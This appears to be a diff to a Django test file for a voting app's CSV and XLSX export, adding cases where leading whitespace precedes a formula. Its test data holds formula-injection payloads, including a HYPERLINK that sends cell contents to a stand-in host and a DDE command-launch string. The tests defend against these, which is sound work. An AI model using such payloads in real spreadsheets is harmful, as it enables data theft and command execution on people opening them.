@@ -2,8 +2,9 @@
 
 A title such as `=HYPERLINK("http://evil.example/?x="&A1,"click")` reached results.csv
 unchanged and became a live formula (cell type `f`) in results.xlsx. Text that begins
-with `=`, `+`, `-`, `@`, a tab or a carriage return is written to CSV as text (a leading
-apostrophe) and to XLSX as a string cell holding exactly the title.
+with `=`, `+`, `-`, `@`, a tab or a carriage return (after any leading whitespace too)
+is written to CSV as text (a leading apostrophe) and to XLSX as a string cell holding
+exactly the title.
 """
 
 from __future__ import annotations
@@ -16,6 +17,7 @@ from django.test import Client
 from django.urls import reverse
 from openpyxl import load_workbook
 
+from lib.spreadsheets import csv_cell
 from projects.models import Proposal
 from tests.votes.counting_fixtures import campaign, cast
 from votes import services
@@ -30,6 +32,10 @@ DANGEROUS = [
     "@SUM(1+1)*cmd|' /C calc'!A0",
     "\t=1+1",
     "\r=1+1",
+    "   =1+1",
+    "\n=1+1",
+    '\u00a0=HYPERLINK("http://evil.example/")',
+    " \t+SUM(A1:A9)",
 ]
 HARMLESS = "Сквер у дома 5 = уютный двор"
 
@@ -70,3 +76,13 @@ def test_xlsx_stores_formula_like_titles_as_string_cells() -> None:
     assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)
     votes_column = header.index("votes") + 1
     assert {sheet.cell(row=row, column=votes_column).value for row in range(2, sheet.max_row + 1)} == {1}
+
+
+@pytest.mark.parametrize("title", ["  =1+1", "\u00a0@SUM(1)", "\n-2+3", " \t=cmd"])
+def test_a_formula_after_leading_whitespace_is_neutralised(title: str) -> None:
+    assert csv_cell(title) == "'" + title
+
+
+@pytest.mark.parametrize("value", ["  Сквер", " 5 = 5", 42, "Сквер = двор"])
+def test_text_that_is_no_formula_and_numbers_are_left_alone(value) -> None:
+    assert csv_cell(value) == value
